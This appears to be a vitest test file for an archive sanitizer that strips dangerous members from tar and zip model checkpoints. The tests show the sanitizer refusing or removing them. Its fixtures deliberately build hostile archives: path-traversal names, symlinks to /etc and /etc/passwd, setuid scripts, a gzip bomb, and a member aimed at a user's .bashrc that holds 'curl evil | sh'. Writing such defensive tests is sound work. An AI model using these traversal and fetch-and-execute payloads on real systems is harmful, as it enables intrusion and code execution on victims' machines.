import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { clean, scan, type CleanReport } from '../../src/index.js';
import { gnuTarList, pythonTar, pythonZip, unzipTest } from '../helpers/inspect-archive.js';
import { gzipTar, makeTar, type TarMember } from '../helpers/make-tar.js';
import { makeZip, torchZip, type ZipMember } from '../helpers/make-zip.js';
import { makeSandbox, type Sandbox } from '../helpers/sandbox.js';
import { rejection } from '../helpers/rejection.js';

let box: Sandbox;
beforeEach(() => {
  box = makeSandbox();
});
afterEach(() => box.cleanup());

const sha = (data: string | Buffer): string => createHash('sha256').update(data).digest('hex');
/** Bytes that do not compress and are not all alike, so a shifted or truncated copy shows. */
const bytes = (length: number, seed = 1): Buffer => Buffer.from(Array.from({ length }, (_, i) => (i * 131 + seed * 17 + (i >> 8)) % 251));

function write(name: string, data: Buffer): string {
  const path = join(box.root, name);
  writeFileSync(path, data);
  return path;
}

/** Only the archives the test wrote, and what clean left: no temporary files. */
function filesInRoot(): string[] {
  return readdirSync(box.root)
    .filter((name) => name !== 'dest' && name !== 'outside')
    .sort();
}

const config = 'name: EncDecCTCModel\nsample_rate: 16000\n';
const weights = bytes(70_000);
const longName = `./${'layer/'.repeat(20)}名前.bin`;

/** A NeMo checkpoint with a traversal, a symlink, a file through the symlink and a setuid script. */
const hostileNemo: TarMember[] = [
  { name: './', type: '5' },
  { name: './model_config.yaml', body: config },
  { name: './../../evil.sh', body: '#!/bin/sh\necho pwned\n' },
  { name: './lnk', type: '2', linkname: '/tmp' },
  { name: './lnk/payload', body: 'through the link' },
  { name: './run.sh', body: '#!/bin/sh\nexit 0\n', mode: 0o4777 },
  { name: './model_weights.ckpt', body: weights, mode: 0o600 },
  { name: longName.slice(0, 100), pax: { path: longName }, body: 'deep' },
];

describe('clean: tar', () => {
  it('drops the hostile members of a NeMo tar and rewrites the rest for GNU tar and Python', async () => {
    const input = write('model.nemo', makeTar(hostileNemo));
    const output = join(box.root, 'clean.nemo');
    const report = await clean(input, output);

    expect(report).toMatchObject({ format: 'tar', compression: null, model: 'nemo', entries: 8, verdict: 'skipped', removed: 3, output });
    expect(report.findings.filter((finding) => finding.action === 'skipped').map((finding) => [finding.code, finding.member])).toEqual([
      ['PARENT_TRAVERSAL', './../../evil.sh'],
      ['SYMLINK', './lnk'],
      ['SYMLINK', './lnk/payload'],
    ]);
    expect(report.findings.filter((finding) => finding.action === 'sanitized').map((finding) => [finding.code, finding.member])).toEqual([
      ['UNSAFE_MODE', './run.sh'],
    ]);

    expect(pythonTar(output).map((m) => [m.name, m.type, m.mode.toString(8), m.uid, m.gid, m.uname, m.gname, m.mtime, m.sha256])).toEqual([
      ['.', '5', '755', 0, 0, '', '', 1_700_000_000, null],
      ['./model_config.yaml', '0', '644', 0, 0, '', '', 1_700_000_000, sha(config)],
      ['./run.sh', '0', '755', 0, 0, '', '', 1_700_000_000, sha('#!/bin/sh\nexit 0\n')],
      ['./model_weights.ckpt', '0', '644', 0, 0, '', '', 1_700_000_000, sha(weights)],
      [longName, '0', '644', 0, 0, '', '', 1_700_000_000, sha('deep')],
    ]);
    const listing = gnuTarList(output);
    expect(listing.map((line) => line.split(/\s+/u)[0])).toEqual(['drwxr-xr-x', '-rw-r--r--', '-rwxr-xr-x', '-rw-r--r--', '-rw-r--r--']);
    expect(listing.map((line) => line.split(/\s+/u)[1])).toEqual(['0/0', '0/0', '0/0', '0/0', '0/0']);
    expect(listing.map((line) => line.split(/\s+/u).slice(5).join(' '))).toEqual(['./', './model_config.yaml', './run.sh', './model_weights.ckpt', longName]);

    const rescan = await scan(output);
    expect(rescan).toMatchObject({ verdict: 'accepted', entries: 5, model: 'nemo', findings: [] });
    expect(filesInRoot()).toEqual(['clean.nemo', 'model.nemo']);
  });

  it('ends with two zero blocks, padded to a 10240-byte record, and writes only types 0, 5 and x', async () => {
    const input = write('model.nemo', makeTar(hostileNemo));
    const output = join(box.root, 'clean.nemo');
    await clean(input, output);
    const tar = readFileSync(output);
    expect(tar.length % 10240).toBe(0);
    const types: string[] = [];
    for (let at = 0; at < tar.length;) {
      const block = tar.subarray(at, at + 512);
      if (block.every((byte) => byte === 0)) break;
      types.push(String.fromCharCode(block[156]!));
      const size = parseInt(block.toString('latin1', 124, 136).replace(/\0.*$/u, ''), 8);
      at += 512 + Math.ceil(size / 512) * 512;
    }
    expect(types).toEqual(['5', '0', '0', '0', 'x', '0']);
  });

  it('writes gzip for a gzip-compressed tar, with the same members and bytes', async () => {
    const input = write('model.tar.gz', gzipTar(hostileNemo));
    const output = join(box.root, 'clean.tar.gz');
    const report = await clean(input, output);
    expect(report).toMatchObject({ format: 'tar', compression: 'gzip', removed: 3, verdict: 'skipped' });
    const written = readFileSync(output);
    expect([written[0], written[1]]).toEqual([0x1f, 0x8b]);
    expect(gunzipSync(written).length % 10240).toBe(0);
    expect(pythonTar(output).map((m) => [m.name, m.sha256])).toEqual([
      ['.', null],
      ['./model_config.yaml', sha(config)],
      ['./run.sh', sha('#!/bin/sh\nexit 0\n')],
      ['./model_weights.ckpt', sha(weights)],
      [longName, sha('deep')],
    ]);
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', compression: 'gzip', findings: [] });
  });

  it('keeps a clean tar member for member: exit 0, nothing removed, same names, modes and bytes', async () => {
    const members: TarMember[] = [
      { name: './', type: '5' },
      { name: './model_config.yaml', body: config },
      { name: './model_weights.ckpt', body: weights },
      { name: 'ünïcødé/名前.txt', body: 'unicode' },
      { name: `${'d'.repeat(99)}/`, type: '5' },
      { name: 'contiguous.bin', type: '7', body: 'seven' },
    ];
    const input = write('clean.nemo', makeTar(members));
    const output = join(box.root, 'out.nemo');
    const report = await clean(input, output);
    expect(report).toMatchObject({ verdict: 'accepted', removed: 0, findings: [] });
    const strip = (list: ReturnType<typeof pythonTar>): unknown[] => list.map((m) => [m.name, m.mode, m.mtime, m.sha256, m.type === '7' ? '0' : m.type]);
    expect(strip(pythonTar(output))).toEqual(strip(pythonTar(input)));
  });

  it('writes a member of exactly 100 ASCII bytes in the name field, and a longer one through PAX', async () => {
    const exact = `${'a'.repeat(50)}/${'b'.repeat(49)}`;
    const longer = `${'a'.repeat(50)}/${'c'.repeat(60)}`;
    const input = write(
      'names.tar',
      makeTar([
        { name: exact, body: 'x' },
        { name: longer.slice(0, 100), pax: { path: longer }, body: 'y' },
      ]),
    );
    const output = join(box.root, 'out.tar');
    await clean(input, output);
    const tar = readFileSync(output);
    expect(tar.toString('latin1', 0, 100)).toBe(exact);
    expect(tar[512 + 512 + 156]).toBe('x'.charCodeAt(0));
    expect(pythonTar(output).map((m) => m.name)).toEqual([exact, longer]);
  });

  it('refuses a truncated tar (a container finding): rejects with the report and leaves no output file', async () => {
    const whole = makeTar([
      { name: 'a.txt', body: 'a' },
      { name: 'weights.bin', body: bytes(5000) },
    ]);
    const input = write('cut.tar', whole.subarray(0, 512 * 3 + 100));
    const output = join(box.root, 'out.tar');
    const error = await rejection<CleanReport>(clean(input, output));
    expect(error.code).toBe('ERR_ARCHIVE_REFUSED');
    expect(error.report).toMatchObject({ verdict: 'refused', output: null, findings: [{ code: 'MALFORMED_ARCHIVE', action: 'refused' }] });
    expect(filesInRoot()).toEqual(['cut.tar']);
  });

  it('refuses a gzip tar that is cut short, and a corrupt gzip, with no output file', async () => {
    const gz = gzipTar([{ name: 'weights.bin', body: bytes(200_000) }]);
    const input = write('cut.tar.gz', gz.subarray(0, gz.length - 40));
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.tar.gz')));
    expect(error.report?.findings[0]).toMatchObject({ code: 'MALFORMED_ARCHIVE' });
    expect(filesInRoot()).toEqual(['cut.tar.gz']);
  });

  it('applies the limits: a member over maxFileSize refuses the archive and nothing is written', async () => {
    const input = write('model.nemo', makeTar(hostileNemo));
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.nemo'), { limits: { maxFileSize: 1024 } }));
    expect(error.report?.findings.find((finding) => finding.action === 'refused')).toMatchObject({ code: 'LIMIT_EXCEEDED', member: './model_weights.ckpt' });
    expect(filesInRoot()).toEqual(['model.nemo']);
  });

  it('a gzip bomb stops at the limit and leaves nothing', async () => {
    const input = write('bomb.tar.gz', gzipTar([{ name: 'zeros.bin', body: Buffer.alloc(8 * 1024 * 1024) }]));
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.tar.gz'), { limits: { maxSize: 1024 * 1024 } }));
    expect(error.report?.findings.some((finding) => finding.code === 'LIMIT_EXCEEDED')).toBe(true);
    expect(filesInRoot()).toEqual(['bomb.tar.gz']);
  });

  it('checks its own output: a zip inside a member that dropping the tail would expose to unzip refuses the clean', async () => {
    // The inner zip's end record is in the input's tail only once the 100 KiB member after it is gone.
    const inner = makeZip([{ name: '../../escape.sh', body: 'pwned' }]);
    const input = write(
      'model.nemo',
      makeTar([
        { name: 'checkpoint.pt', body: inner },
        { name: '../big.bin', body: bytes(100_000) },
      ]),
    );
    expect((await scan(input, { policy: 'skip' })).verdict).toBe('skipped');
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.nemo')));
    expect(error.report?.findings.find((finding) => finding.action === 'refused')).toMatchObject({ code: 'AMBIGUOUS_FORMAT', member: 'checkpoint.pt' });
    expect(error.report?.findings.find((finding) => finding.action === 'refused')?.message).toMatch(/^in the cleaned copy: /u);
    expect(filesInRoot()).toEqual(['model.nemo']);
  });

  it('keeps the torch checkpoint that ends an uncompressed .nemo, which unzip could also read', async () => {
    const checkpoint = torchZip('model_weights', { 'data.pkl': bytes(200), 'data/0': bytes(3000, 4), version: '3\n' });
    const input = write(
      'model.nemo',
      makeTar([
        { name: './', type: '5' },
        { name: './evil', type: '2', linkname: '/etc' },
        { name: './model_config.yaml', body: config },
        { name: './model_weights.ckpt', body: checkpoint },
      ]),
    );
    const output = join(box.root, 'clean.nemo');
    expect(await clean(input, output)).toMatchObject({ removed: 1, verdict: 'skipped' });
    expect(pythonTar(output).map((m) => [m.name, m.sha256])).toEqual([
      ['.', null],
      ['./model_config.yaml', sha(config)],
      ['./model_weights.ckpt', sha(checkpoint)],
    ]);
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', findings: [] });
  });

  it('accepts a Buffer and a stream as the source', async () => {
    const tar = makeTar(hostileNemo);
    const fromBuffer = await clean(tar, join(box.root, 'a.nemo'));
    const fromStream = await clean(Readable.from([tar]), join(box.root, 'b.nemo'));
    expect([fromBuffer.archive, fromStream.archive]).toEqual(['<buffer>', '-']);
    expect(readFileSync(join(box.root, 'a.nemo'))).toEqual(readFileSync(join(box.root, 'b.nemo')));
  });
});

/** torch.save's layout, with an escape and a symlink added among the real records. */
function hostileTorch(): ZipMember[] {
  const torch = (name: string, body: string | Buffer): ZipMember => ({
    name: `archive/${name}`,
    body,
    utf8Flag: true,
    dataDescriptor: Buffer.from(body).length > 0,
    align: 64,
  });
  return [
    torch('data.pkl', bytes(300, 2)),
    torch('../../../home/user/.bashrc', 'curl evil | sh\n'),
    torch('.format_version', '1'),
    { name: 'archive/lnk', body: '/etc/passwd', unixMode: 0o120777 },
    torch('byteorder', 'little'),
    torch('data/0', bytes(5000, 3)),
    torch('data/1', ''),
    torch('version', '3\n'),
    torch('.data/serialization_id', '1234567890'),
  ];
}

describe('clean: zip', () => {
  it('drops hostile members of a torch checkpoint, keeping order, bytes and 64-byte alignment', async () => {
    const members = hostileTorch();
    const input = write('model.pt', makeZip(members, { zip64End: true }));
    const output = join(box.root, 'clean.pt');
    const report = await clean(input, output);
    expect(report).toMatchObject({ format: 'zip', model: 'pytorch', entries: 9, removed: 2, verdict: 'skipped', output });
    expect(report.findings.map((finding) => [finding.code, finding.member, finding.action])).toEqual([
      ['PARENT_TRAVERSAL', 'archive/../../../home/user/.bashrc', 'skipped'],
      ['SYMLINK', 'archive/lnk', 'skipped'],
    ]);

    const before = pythonZip(input).members;
    const after = pythonZip(output);
    expect(after.testzip).toBeNull();
    expect(unzipTest(output)).toContain('No errors detected');
    const kept = before.filter((member) => !member.name.includes('..') && member.name !== 'archive/lnk');
    expect(after.members.map((member) => member.name)).toEqual(kept.map((member) => member.name));
    expect(after.members.map((member) => [member.method, member.flags, member.crc, member.size, member.rawSha256, member.sha256])).toEqual(
      kept.map((member) => [member.method, member.flags, member.crc, member.size, member.rawSha256, member.sha256]),
    );
    for (const member of after.members) expect(member.dataOffset % 64, member.name).toBe(0);
    // The dropped members moved the later ones: the padding was rebuilt, not copied.
    expect(after.members.map((member) => member.dataOffset)).not.toEqual(kept.map((member) => member.dataOffset));
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', model: 'pytorch', findings: [] });
    expect(filesInRoot()).toEqual(['clean.pt', 'model.pt']);
  });

  it('keeps the ZIP64 end records of a torch checkpoint, and adds none to a plain zip', async () => {
    const torch = write('model.pt', makeZip(hostileTorch(), { zip64End: true }));
    await clean(torch, join(box.root, 'clean.pt'));
    const out = readFileSync(join(box.root, 'clean.pt'));
    expect(out.readUInt32LE(out.length - 22 - 20)).toBe(0x07064b50);
    expect(out.readUInt32LE(out.length - 22 - 20 - 56)).toBe(0x06064b50);

    const plain = write('plain.zip', makeZip([{ name: 'a.txt', body: 'a' }]));
    await clean(plain, join(box.root, 'clean.zip'));
    const small = readFileSync(join(box.root, 'clean.zip'));
    expect(small.readUInt32LE(small.length - 22)).toBe(0x06054b50);
    expect(small.includes(Buffer.from([0x50, 0x4b, 0x06, 0x07]))).toBe(false);
  });

  it('copies deflated members without re-compressing them', async () => {
    const input = write(
      'model.keras',
      makeZip([
        { name: 'metadata.json', body: '{"keras_version": "3.0.0"}', method: 'deflate' },
        { name: '../evil.json', body: '{}', method: 'deflate' },
        { name: 'config.json', body: JSON.stringify({ layers: Array.from({ length: 200 }, (_, i) => ({ name: `dense_${i}` })) }), method: 'deflate' },
        { name: 'model.weights.h5', body: bytes(40_000, 5), method: 'deflate', dataDescriptor: true },
      ]),
    );
    const output = join(box.root, 'clean.keras');
    const report = await clean(input, output);
    expect(report).toMatchObject({ removed: 1, verdict: 'skipped', model: 'keras' });
    const before = pythonZip(input).members.filter((member) => member.name !== '../evil.json');
    const after = pythonZip(output);
    expect(after.testzip).toBeNull();
    unzipTest(output);
    expect(after.members.map((member) => [member.name, member.method, member.compressedSize, member.rawSha256, member.sha256])).toEqual(
      before.map((member) => [member.name, 8, member.compressedSize, member.rawSha256, member.sha256]),
    );
  });

  it('refuses a kept deflated member whose data is corrupt, rather than copying it', async () => {
    const good = makeZip([{ name: 'weights.bin', body: bytes(20_000, 7), method: 'deflate' }]);
    const corrupt = Buffer.from(good);
    const at = 30 + 'weights.bin'.length + 100;
    corrupt[at] = corrupt[at]! ^ 0xff;
    const input = write('corrupt.zip', corrupt);
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.zip')));
    expect(error.report?.findings[0]).toMatchObject({ code: 'MALFORMED_ARCHIVE', member: 'weights.bin', action: 'refused' });
    expect(filesInRoot()).toEqual(['corrupt.zip']);
  });

  it('refuses a stored member whose CRC does not match', async () => {
    const input = write('crc.zip', makeZip([{ name: 'a.bin', body: bytes(1000), crc: 1234 }]));
    const error = await rejection<CleanReport>(clean(input, join(box.root, 'out.zip')));
    expect(error.report?.findings[0]).toMatchObject({ code: 'MALFORMED_ARCHIVE', message: 'CRC-32 mismatch' });
    expect(filesInRoot()).toEqual(['crc.zip']);
  });

  it('a clean torch checkpoint comes out with the same members, bytes and offsets: exit 0', async () => {
    const input = write('model.pt', torchZip('archive', { 'data.pkl': bytes(300), 'data/0': bytes(4096, 2), version: '3\n', '.data/serialization_id': '42' }));
    const output = join(box.root, 'clean.pt');
    const report = await clean(input, output);
    expect(report).toMatchObject({ verdict: 'accepted', removed: 0, findings: [] });
    const view = (path: string): unknown[] => pythonZip(path).members.map((m) => [m.name, m.method, m.flags, m.crc, m.headerOffset, m.dataOffset, m.rawSha256]);
    expect(view(output)).toEqual(view(input));
  });

  it('sanitizes a setuid unix mode in the central record, so a scan of the copy finds nothing', async () => {
    const input = write(
      'modes.zip',
      makeZip([
        { name: 'run.sh', body: '#!/bin/sh\n', unixMode: 0o104777 },
        { name: 'data/', unixMode: 0o040777 },
        { name: 'data/a.txt', body: 'a', unixMode: 0o100644 },
      ]),
    );
    const output = join(box.root, 'out.zip');
    const report = await clean(input, output);
    expect(report.findings.map((finding) => [finding.code, finding.member, finding.action])).toEqual([
      ['UNSAFE_MODE', 'run.sh', 'sanitized'],
      ['UNSAFE_MODE', 'data/', 'sanitized'],
    ]);
    expect(report).toMatchObject({ verdict: 'accepted', removed: 0 });
    expect(pythonZip(output).members.map((member) => (member.externalAttributes >>> 16).toString(8))).toEqual(['100755', '40755', '100644']);
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', findings: [] });
  });

  it('keeps ZIP64 members (NumPy writes them for every array) readable', async () => {
    const input = write(
      'arrays.npz',
      makeZip([
        { name: 'x.npy', body: bytes(3000), zip64: true },
        { name: '../y.npy', body: 'y', zip64: true },
        { name: 'z.npy', body: bytes(500, 9), zip64: true, dataDescriptor: true },
      ]),
    );
    const output = join(box.root, 'clean.npz');
    expect(await clean(input, output)).toMatchObject({ removed: 1 });
    const after = pythonZip(output);
    expect(after.testzip).toBeNull();
    unzipTest(output);
    expect(after.members.map((member) => [member.name, member.sha256])).toEqual([
      ['x.npy', sha(bytes(3000))],
      ['z.npy', sha(bytes(500, 9))],
    ]);
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', findings: [] });
  });

  it('keeps the first of two duplicate names and of two names that collide, and drops the others', async () => {
    const input = write(
      'dups.zip',
      makeZip([
        { name: 'README', body: 'one' },
        { name: 'a.txt', body: 'first' },
        { name: 'readme', body: 'two' },
        { name: 'a.txt', body: 'second' },
      ]),
    );
    const output = join(box.root, 'out.zip');
    const report = await clean(input, output);
    expect(report.findings.map((finding) => [finding.code, finding.member, finding.action])).toEqual([
      ['NAME_COLLISION', 'readme', 'skipped'],
      ['DUPLICATE_ENTRY', 'a.txt', 'skipped'],
    ]);
    expect(pythonZip(output).members.map((member) => [member.name, member.sha256])).toEqual([
      ['README', sha('one')],
      ['a.txt', sha('first')],
    ]);
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', findings: [] });
  });

  it('writes an empty zip when every member is dropped', async () => {
    const input = write(
      'all-bad.zip',
      makeZip([
        { name: '../a', body: 'a' },
        { name: '/etc/b', body: 'b' },
      ]),
    );
    const output = join(box.root, 'out.zip');
    expect(await clean(input, output)).toMatchObject({ removed: 2, verdict: 'skipped' });
    expect(pythonZip(output)).toEqual({ testzip: null, members: [] });
    expect(await scan(output)).toMatchObject({ verdict: 'accepted', entries: 0 });
  });
});

describe('clean: the output file', () => {
  const input = (): string => write('model.nemo', makeTar(hostileNemo));

  it('refuses to replace an existing file without overwrite, and replaces it with overwrite', async () => {
    const source = input();
    const output = write('out.nemo', Buffer.from('precious'));
    const error = await rejection<CleanReport>(clean(source, output));
    expect(error.code).toBe('ERR_DESTINATION');
    expect(error.message).toContain('already exists');
    expect(readFileSync(output, 'utf8')).toBe('precious');
    expect(filesInRoot()).toEqual(['model.nemo', 'out.nemo']);

    await clean(source, output, { overwrite: true });
    expect(pythonTar(output)).toHaveLength(5);
    expect(filesInRoot()).toEqual(['model.nemo', 'out.nemo']);
  });

  it('replaces a symlink at the output path with overwrite, never writing through it', async () => {
    const source = input();
    const victim = join(box.outside, 'victim.txt');
    writeFileSync(victim, 'untouched');
    const output = join(box.root, 'out.nemo');
    symlinkSync(victim, output);
    expect((await rejection<CleanReport>(clean(source, output))).code).toBe('ERR_DESTINATION');
    await clean(source, output, { overwrite: true });
    expect(readFileSync(victim, 'utf8')).toBe('untouched');
    expect(pythonTar(output)).toHaveLength(5);
  });

  it('refuses to write over the archive it is cleaning, even with overwrite', async () => {
    const source = input();
    const before = readFileSync(source);
    const error = await rejection<CleanReport>(clean(source, source, { overwrite: true }));
    expect(error.code).toBe('ERR_INVALID_OPTION');
    expect(readFileSync(source)).toEqual(before);
    expect(filesInRoot()).toEqual(['model.nemo']);
  });

  it('refuses a folder as the output, and a folder that does not exist', async () => {
    const source = input();
    expect((await rejection<CleanReport>(clean(source, box.dest, { overwrite: true }))).code).toBe('ERR_DESTINATION');
    expect((await rejection<CleanReport>(clean(source, join(box.root, 'missing', 'out.nemo')))).code).toBe('ERR_DESTINATION');
    expect(filesInRoot()).toEqual(['model.nemo']);
  });

  it('an abort leaves no output file', async () => {
    const source = input();
    const controller = new AbortController();
    const error = await rejection<CleanReport>(clean(source, join(box.root, 'out.nemo'), { signal: controller.signal, onProgress: () => controller.abort() }));
    expect(error.code).toBe('ERR_ABORTED');
    expect(filesInRoot()).toEqual(['model.nemo']);
  });

  it('takes no policy (it is always skip) and rejects unknown options', async () => {
    const source = input();
    const error = await rejection<CleanReport>(clean(source, join(box.root, 'out.nemo'), { policy: 'refuse' } as never));
    expect(error.code).toBe('ERR_INVALID_OPTION');
    expect(error.message).toContain('unknown option "policy"');
    expect((await rejection<CleanReport>(clean(source, join(box.root, 'out.nemo'), { force: true } as never))).message).toContain('unknown option "force"');
    expect(existsSync(join(box.root, 'out.nemo'))).toBe(false);
  });

  it('an unreadable source is an error, and nothing is written', async () => {
    const error = await rejection<CleanReport>(clean(join(box.root, 'missing.nemo'), join(box.root, 'out.nemo')));
    expect(error.code).toBe('ERR_SOURCE_UNREADABLE');
    expect(filesInRoot()).toEqual([]);
  });
});
